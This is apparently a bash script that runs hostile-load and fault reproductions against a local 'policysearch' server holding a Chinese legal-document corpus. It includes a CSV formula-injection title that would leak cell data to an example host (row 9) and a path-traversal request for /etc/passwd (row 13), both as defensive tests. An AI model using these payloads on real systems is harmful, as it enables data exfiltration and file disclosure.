#!/usr/bin/env bash
# The hostile-load and fault repros of issue 18, against a real server holding
# ../shared/corpus/lawrefbook. Every step is bounded (curl -m, timeout); the figures go to
# stdout as "row N: ...". Not part of go test: it indexes 150k paragraphs and loads the
# machine for minutes.
#
#   bench/hostile.sh [ROW...]      (default: 1 2 3 5 6 7 8 9 11 12 13)
#
# Environment: DATA (index folder, kept between runs: $TMPDIR/ps-hostile/data),
# PORT (18318), BIN (built here when unset), CORPUS (../shared/corpus/lawrefbook).
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=${TMPDIR:-/tmp}/ps-hostile
DATA=${DATA:-$ROOT/data}
PORT=${PORT:-18318}
CORPUS=${CORPUS:-../shared/corpus/lawrefbook}
BASE=http://127.0.0.1:$PORT
mkdir -p "$ROOT"
if [[ -z "${BIN:-}" ]]; then BIN=$ROOT/policysearch; go build -o "$BIN" ./cmd/policysearch; fi
ROWS=${*:-1 2 3 5 6 7 8 9 11 12 13}
SRV=

say() { printf '%s\n' "$*"; }
rss_mb() { awk '/VmRSS/{printf "%d", $2/1024}' /proc/$1/status; }
hwm_mb() { awk '/VmHWM/{printf "%d", $2/1024}' /proc/$1/status; }
q() { python3 -c 'import sys,urllib.parse;print(urllib.parse.quote(sys.argv[1]))' "$1"; }
t() { curl -s -o /dev/null -m "${2:-60}" -w '%{http_code} %{time_total}s %{size_download}B' "$1" || echo "timeout"; }

start() {
  stop
  "$BIN" serve --data "$DATA" --addr 127.0.0.1:$PORT --allow-writes --max-upload 20971520 >"$ROOT/serve.log" 2>&1 &
  SRV=$!
  for _ in $(seq 1 600); do curl -sf -m 1 $BASE/healthz >/dev/null 2>&1 && return 0; kill -0 $SRV 2>/dev/null || break; sleep 0.5; done
  say "the server did not start:"; tail -3 "$ROOT/serve.log"; return 1
}
stop() { if [[ -n "$SRV" ]] && kill -0 "$SRV" 2>/dev/null; then kill -TERM "$SRV"; wait "$SRV" || true; fi; SRV=; }
trap stop EXIT

if [[ ! -f "$DATA/policysearch.json" ]]; then
  say "indexing $CORPUS into $DATA"
  /usr/bin/time -f "index: %e s, %M KB max RSS" "$BIN" index --data "$DATA" "$CORPUS" | tail -2
fi
start
say "server pid $SRV, RSS $(rss_mb $SRV) MB after start"

for row in $ROWS; do case $row in
1) # An export whose client does not read, then an upload, then a search.
  exec 3<>/dev/tcp/127.0.0.1/$PORT
  printf 'GET /api/v1/export?q=*&format=jsonl HTTP/1.1\r\nHost: x\r\n\r\n' >&3
  sleep 2
  printf '行一测试文件\n一、任务\n1.导出期间上传。内容。\n' >"$ROOT/r1.txt"
  up=$(curl -s -o /dev/null -m 60 -w '%{http_code} %{time_total}s' -F file=@"$ROOT/r1.txt" $BASE/api/v1/documents || echo timeout)
  s=$(t "$BASE/api/v1/search?q=$(q '"法规"')" 60); h=$(t $BASE/healthz 60)
  exec 3>&-
  say "row 1: with an export not read: upload $up; search $s; healthz $h" ;;
2) # KWIC of the commonest character, sorted; 37 one-character phrases ORed, limit 1.
  before=$(rss_mb $SRV)
  a=$(t "$BASE/api/v1/kwic?q=$(q '"的"')&width=100&limit=10000&sort=left" 120)
  ors=$(python3 -c 'print(" OR ".join("\""+c+"\"" for c in "的一是在不了有和人这中大为上个国我以要他时来用们生到作地于出就分对成会可主发年动同工也能"[:37]))')
  b=$(t "$BASE/api/v1/kwic?q=$(q "$ors")&limit=1" 120)
  say "row 2: kwic \"的\" sort=left limit=10000: $a; 37 phrases ORed limit=1: $b; RSS $before -> $(rss_mb $SRV) MB, peak $(hwm_mb $SRV) MB" ;;
3) # 20 concurrent worst-case analytics while a plain search is probed every 100 ms.
  ors=$(python3 -c 'print(" OR ".join("\""+c+"\"" for c in "的一是在不了有和人这中大为上个国我以要他时来用们生到作地于出就分对成会可主发年动同工也能"[:37]))')
  urls=("kwic?q=$(q '"的"')&width=100&limit=10000&sort=left" "kwic?q=$(q "$ors")&limit=1" "stats?q=$(q '"的"')&by=issuer" "export?q=$(q '"的"')&format=jsonl")
  : >"$ROOT/r3.codes"; pids=()
  for i in $(seq 0 19); do
    (curl -s -o /dev/null -m 120 -w '%{http_code}\n' "$BASE/api/v1/${urls[$((i % 4))]}" >>"$ROOT/r3.codes" || echo timeout >>"$ROOT/r3.codes") &
    pids+=($!)
  done
  : >"$ROOT/r3.lat"; peak=0
  for _ in $(seq 1 150); do
    curl -s -o /dev/null -m 10 -w '%{time_total}\n' "$BASE/api/v1/search?q=$(q '职业教育 实训基地')" >>"$ROOT/r3.lat" || echo 10 >>"$ROOT/r3.lat"
    r=$(rss_mb $SRV); (( r > peak )) && peak=$r
    sleep 0.1
  done
  wait "${pids[@]}"
  p95=$(sort -n "$ROOT/r3.lat" | awk '{a[NR]=$1} END{printf "%.0f ms (p50 %.0f ms, max %.0f ms, n=%d)", a[int(NR*0.95)]*1000, a[int(NR*0.5)]*1000, a[NR]*1000, NR}')
  say "row 3: 20 concurrent analytics: statuses $(sort "$ROOT/r3.codes" | uniq -c | tr -s ' \n' ' '); search p95 $p95; RSS peak sampled $peak MB, VmHWM $(hwm_mb $SRV) MB" ;;
5) # 1 M short lines in one .txt upload, while a search is probed.
  python3 -c 'import sys
sys.stdout.write("百万行测试\n")
for i in range(1000000): sys.stdout.write("第%d行。\n" % i)' >"$ROOT/r5.txt"
  (curl -s -o "$ROOT/r5.out" -m 300 -w '%{http_code} %{time_total}s\n' -F file=@"$ROOT/r5.txt" $BASE/api/v1/documents >"$ROOT/r5.code" || echo timeout >"$ROOT/r5.code") &
  up=$!; worst=0
  for _ in $(seq 1 20); do
    l=$(curl -s -o /dev/null -m 60 -w '%{time_total}' "$BASE/api/v1/search?q=$(q '"法规"')" || echo 60)
    worst=$(python3 -c "print(max($worst,$l))"); sleep 0.25
  done
  wait $up
  say "row 5: $(du -h "$ROOT/r5.txt" | cut -f1) of 1 M lines: upload $(cat "$ROOT/r5.code") $(head -c 160 "$ROOT/r5.out"); slowest search during it ${worst}s; RSS $(rss_mb $SRV) MB, peak $(hwm_mb $SRV) MB" ;;
6) # Disk full: a second server on a 64 MB tmpfs, filled by uploads.
  d=$ROOT/tmpfs; mkdir -p "$d"; mountpoint -q "$d" || mount -t tmpfs -o size=64m tmpfs "$d"
  rm -rf "${d:?}"/*
  "$BIN" serve --data "$d/data" --addr 127.0.0.1:$((PORT+1)) --allow-writes >"$ROOT/serve6.log" 2>&1 & p6=$!
  for _ in $(seq 1 120); do curl -sf -m 1 http://127.0.0.1:$((PORT+1))/healthz >/dev/null 2>&1 && break; sleep 0.5; done
  code=201; n=0
  while [[ $code == 20* && $n -lt 400 ]]; do
    python3 -c "import sys
print('磁盘测试第$n号')
for i in range(1000): print('%d.磁盘测试第$n号文件第%d条，推进产教融合，加强校企合作，完善实训基地建设。' % (i+1, i))" >"$ROOT/r6.txt"
    code=$(curl -s -o "$ROOT/r6.out" -m 60 -w '%{http_code}' -F file=@"$ROOT/r6.txt" -F id=disk-$n http://127.0.0.1:$((PORT+1))/api/v1/documents || echo timeout)
    n=$((n+1)); sleep 1.1 # under the server's write rate limit
  done
  hz=$(curl -s -m 5 http://127.0.0.1:$((PORT+1))/healthz)
  total=$(curl -s -m 10 "http://127.0.0.1:$((PORT+1))/api/v1/search?q=$(q '磁盘测试 实训基地')&size=1" | python3 -c 'import sys,json;print(json.load(sys.stdin)["total"])')
  c0=$(awk '{print $14+$15}' /proc/$p6/stat); sleep 5; c1=$(awk '{print $14+$15}' /proc/$p6/stat)
  say "row 6: upload $n answered $code $(head -c 200 "$ROOT/r6.out"); healthz $hz; word-query total $total; idle CPU $(( (c1-c0) ))/500 ticks in 5 s"
  kill -TERM $p6; wait $p6 || true; umount -l "$d" || true ;;
7) # Damaged copies of the index.
  stop
  for dmg in segment shard count; do
    c=$ROOT/damaged; rm -rf "$c"; cp -r "$DATA" "$c"
    case $dmg in
      segment) z=$(ls -S "$c"/shard-0/store/*.zap | head -1); printf 'garbage!garbage!' | dd of="$z" bs=1 seek=$(( $(stat -c %s "$z") / 2 )) conv=notrunc status=none ;;
      shard) rm -rf "$c/shard-1" ;;
      count) sed -i 's/"shards": [0-9]*/"shards": 1/' "$c/policysearch.json" ;;
    esac
    out=$(timeout 120 "$BIN" serve --data "$c" --addr 127.0.0.1:$((PORT+2)) 2>&1 | tail -1 || true)
    say "row 7 ($dmg): serve: ${out:0:260}"
  done
  say "row 7: check: $(timeout 120 "$BIN" check --data "$c" 2>&1 | head -2 | tr '\n' ' ')"
  rm -rf "$ROOT/damaged"; start ;;
8) # A second opener beside the running server.
  s0=$(date +%s.%N)
  out=$(timeout 60 "$BIN" search --data "$DATA" '"法规"' 2>"$ROOT/r8.err" | head -1; echo "exit ${PIPESTATUS[0]}")
  out="$(tr '\n' ' ' <<<"$out") $(head -c 120 "$ROOT/r8.err")"
  s1=$(date +%s.%N)
  w=$(timeout 60 "$BIN" serve --data "$DATA" --addr 127.0.0.1:$((PORT+3)) 2>&1 | tail -1; echo "exit ${PIPESTATUS[0]}")
  w=$(tr '\n' ' ' <<<"$w")
  say "row 8: search --data beside the server: \"$out\" in $(python3 -c "print(round($s1-$s0,2))") s; second serve: ${w:0:200}" ;;
9) # A title and paragraphs a spreadsheet would run.
  printf '一、总体要求\n+1 推进工作。\n@SUM(1,2) 完善机制。\n' >"$ROOT/r9.txt"
  curl -s -o /dev/null -m 60 -F file=@"$ROOT/r9.txt" -F id=csv-formula -F 'title==HYPERLINK("http://example.org/?leak="&A2,"打开")' $BASE/api/v1/documents
  cells=$(curl -s -m 60 "$BASE/api/v1/export?q=*&doc=csv-formula&format=csv" | python3 -c 'import sys,csv
rows=list(csv.reader(sys.stdin))
print(" | ".join(c for r in rows[1:] for c in (r[2][:12], r[-1][:12])))')
  say "row 9: CSV cells: $cells" ;;
11) # One 10 MB line, then a search for a word in it.
  python3 -c 'import sys
sys.stdout.write("超长行测试\n" + "各地要结合实际推进工作，" * 280000 + "独特词语出现在这里。" + "确保各项任务落到实处，" * 10000 + "\n")' >"$ROOT/r11.txt"
  up=$(curl -s -o /dev/null -m 300 -w '%{http_code} %{time_total}s' -F file=@"$ROOT/r11.txt" -F id=long-line $BASE/api/v1/documents || echo timeout)
  s=$(t "$BASE/api/v1/search?q=$(q '独特词语')" 120)
  say "row 11: $(du -h "$ROOT/r11.txt" | cut -f1) line: upload $up; search $s" ;;
12) # Invisible characters in the query.
  a=$(curl -s -m 30 "$BASE/api/v1/search?q=$(q '产教融合')&size=1" | python3 -c 'import sys,json;print(json.load(sys.stdin)["total"])')
  b=$(curl -s -m 30 "$BASE/api/v1/search?q=$(q $'产教\u200b融合')&size=1" | python3 -c 'import sys,json;print(json.load(sys.stdin)["total"])')
  say "row 12: 产教融合 $a hits; typed with U+200B $b hits" ;;
13) say "row 13: GET /static/..%5c..%5cetc/passwd: $(curl -s -m 10 -w ' %{http_code} %{content_type}' "$BASE/static/..%5c..%5cetc/passwd" | head -c 200)" ;;
esac; done
